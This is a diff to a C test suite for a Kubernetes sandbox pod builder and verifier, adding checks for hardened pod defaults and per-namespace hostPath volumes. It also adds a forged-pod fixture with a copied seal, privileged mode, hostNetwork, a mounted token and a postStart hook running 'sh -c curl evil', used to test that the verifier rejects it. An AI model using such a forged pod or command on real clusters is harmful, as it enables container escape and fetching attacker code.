@@ -714,6 +714,84 @@ static void test_verify_payload(void)
 	fixture_release(&f);
 }
 
+/* Findings 7 and contract section 4: the restricted Pod Security profile by
+ * default, no service links, no token. */
+static void test_pod_hardened(void)
+{
+	struct fixture f;
+	fixture_init(&f, ALICE_SPEC, NULL);
+	const cJSON *ps = AT(f.pod, "spec");
+	CU_ASSERT(cJSON_IsFalse(AT(ps, "automountServiceAccountToken")));
+	CU_ASSERT(cJSON_IsFalse(AT(ps, "enableServiceLinks")));
+	CU_ASSERT(cJSON_IsTrue(AT(ps, "securityContext", "runAsNonRoot")));
+	CU_ASSERT_EQUAL(cJSON_GetNumberValue(AT(ps, "securityContext", "runAsUser")), 1000);
+	CU_ASSERT_EQUAL(cJSON_GetNumberValue(AT(ps, "securityContext", "runAsGroup")), 1000);
+	CU_ASSERT_EQUAL(cJSON_GetNumberValue(AT(ps, "securityContext", "fsGroup")), 1000);
+	CU_ASSERT_STRING_EQUAL(str_at(AT(ps, "securityContext", "seccompProfile", "type")),
+			       "RuntimeDefault");
+	const cJSON *sc = AT(ps, "containers", "0", "securityContext");
+	CU_ASSERT(cJSON_IsFalse(AT(sc, "allowPrivilegeEscalation")));
+	CU_ASSERT(cJSON_IsTrue(AT(sc, "runAsNonRoot")));
+	CU_ASSERT_STRING_EQUAL(str_at(AT(sc, "capabilities", "drop", "0")), "ALL");
+	CU_ASSERT_EQUAL(cJSON_GetArraySize(AT(sc, "capabilities", "drop")), 1);
+	CU_ASSERT_PTR_NULL(AT(sc, "capabilities", "add"));
+	CU_ASSERT_PTR_NULL(AT(sc, "privileged"));
+	fixture_release(&f);
+}
+
+/* Contract section 4: hostPath mode is <root>/<namespace>/<owner>/<subdir>,
+ * so owners of different namespaces never share a folder. */
+static void test_pod_hostpath_namespaced(void)
+{
+	struct fixture f;
+	fixture_init(&f, ALICE_SPEC, "workspace: {mode: hostPath, hostPathRoot: /srv/ws}\n");
+	const cJSON *vols = AT(f.pod, "spec", "volumes");
+	CU_ASSERT_EQUAL_FATAL(cJSON_GetArraySize(vols), 4);
+	CU_ASSERT_STRING_EQUAL(str_at(AT(vols, "0", "hostPath", "path")), "/srv/ws/team-a/alice/workspace");
+	const cJSON *v;
+	cJSON_ArrayForEach(v, vols)
+	{
+		const char *p = str_at(AT(v, "hostPath", "path"));
+		CU_ASSERT_EQUAL(strncmp(p, "/srv/ws/team-a/alice/", 21), 0);
+		CU_ASSERT_PTR_NULL(strstr(p + 21, "/"));
+		CU_ASSERT_PTR_NULL(strstr(p, ".."));
+	}
+	fixture_release(&f);
+}
+
+/* Finding 1: the reviewer's forged pod. Every label and annotation, seal
+ * included, is copied from a genuine pod (delete and re-create), plus
+ * privileged, hostNetwork, a token and a postStart hook. */
+static cJSON *forge_isolation(const cJSON *genuine)
+{
+	cJSON *pod = cJSON_Duplicate(genuine, 1);
+	cJSON *ps = cJSON_GetObjectItemCaseSensitive(pod, "spec");
+	cJSON *c = cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(ps, "containers"), 0);
+	cJSON_DeleteItemFromObjectCaseSensitive(ps, "automountServiceAccountToken");
+	cJSON_AddTrueToObject(ps, "automountServiceAccountToken");
+	cJSON_AddTrueToObject(ps, "hostNetwork");
+	cJSON_DeleteItemFromObjectCaseSensitive(c, "securityContext");
+	cJSON_AddTrueToObject(cJSON_AddObjectToObject(c, "securityContext"), "privileged");
+	cJSON *hook = cJSON_AddObjectToObject(cJSON_AddObjectToObject(c, "lifecycle"), "postStart");
+	cJSON_AddItemToObject(cJSON_AddObjectToObject(hook, "exec"), "command",
+			      cJSON_CreateStringArray((const char *[]){"sh", "-c", "curl evil"}, 3));
+	return pod;
+}
+
+static void test_verify_forged_isolation(void)
+{
+	struct fixture f;
+	fixture_init(&f, ALICE_SPEC, NULL);
+	cJSON *forged = forge_isolation(f.pod);
+	struct sbx_verify_expect e = expect_of(&f);
+	/* The identity checks pass (the seal is genuine)... */
+	CU_ASSERT_EQUAL(sbx_pod_verify(forged, &e), SBX_VERIFY_OK);
+	/* ...so the payload check must refuse it. */
+	CU_ASSERT_EQUAL(sbx_pod_payload_verify(forged, f.pod), SBX_VERIFY_PAYLOAD_MISMATCH);
+	cJSON_Delete(forged);
+	fixture_release(&f);
+}
+
 void register_sandbox_pod_tests(void)
 {
 	SBX_SUITE("sandbox/seal", {"known answer", test_seal_known_answer},
@@ -721,11 +799,14 @@ void register_sandbox_pod_tests(void)
 		  {"constant-time compare", test_seal_equal});
 	SBX_SUITE("sandbox/podbuild", {"owner + PVC", test_pod_pvc},
 		  {"owner + hostPath", test_pod_hostpath},
-		  {"no owner: emptyDir only", test_pod_no_owner}, {"refusals", test_pod_refusals});
+		  {"no owner: emptyDir only", test_pod_no_owner}, {"refusals", test_pod_refusals},
+		  {"hardened by default", test_pod_hardened},
+		  {"hostPath per namespace", test_pod_hostpath_namespaced});
 	SBX_SUITE("sandbox/verify", {"genuine pods", test_verify_genuine},
 		  {"each field tampered", test_verify_tampering},
 		  {"fingerprint modes and order", test_verify_fingerprint_modes},
 		  {"forged pods", test_verify_forged},
 		  {"owner presence", test_verify_owner_presence},
-		  {"verdict strings", test_verify_str}, {"payload replay", test_verify_payload});
+		  {"verdict strings", test_verify_str}, {"payload replay", test_verify_payload},
+		  {"forged isolation fields", test_verify_forged_isolation});
 }
